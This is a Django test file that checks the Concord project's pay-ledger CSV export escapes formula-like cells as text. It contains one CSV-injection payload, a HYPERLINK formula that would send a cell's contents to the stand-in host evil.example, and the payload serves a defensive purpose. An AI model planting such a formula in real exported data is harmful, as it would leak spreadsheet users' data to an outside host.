"""Every CSV Concord writes neutralises formula-like cells (see config/csvsafe.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from django.test import Client

from annotation.models import PayEntry
from annotation.services.assignments import assignment_claim_next
from tests.annotation.work_helpers import make_pairs, submit
from tests.conftest import PASSWORD, Cast

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_the_pay_ledger_csv_writes_a_formula_reason_as_text(client: Client, cast: Cast) -> None:
    study = cast.study
    study.gold_share = Decimal(0)
    study.save()
    make_pairs(study, 1)
    assignment = assignment_claim_next(worker=cast.worker_one)
    assert assignment is not None
    submit(assignment, likert_shown=2)
    PayEntry.objects.filter(worker=cast.worker_one).update(reason=FORMULA)
    assert client.login(username="rhea-researcher", password=PASSWORD)
    body = client.get(f"/studies/{study.slug}/payouts.csv").content.decode()
    (row,) = list(csv.reader(io.StringIO(body)))[1:]
    assert row[5] == "'" + FORMULA
    assert row[3] == "15"
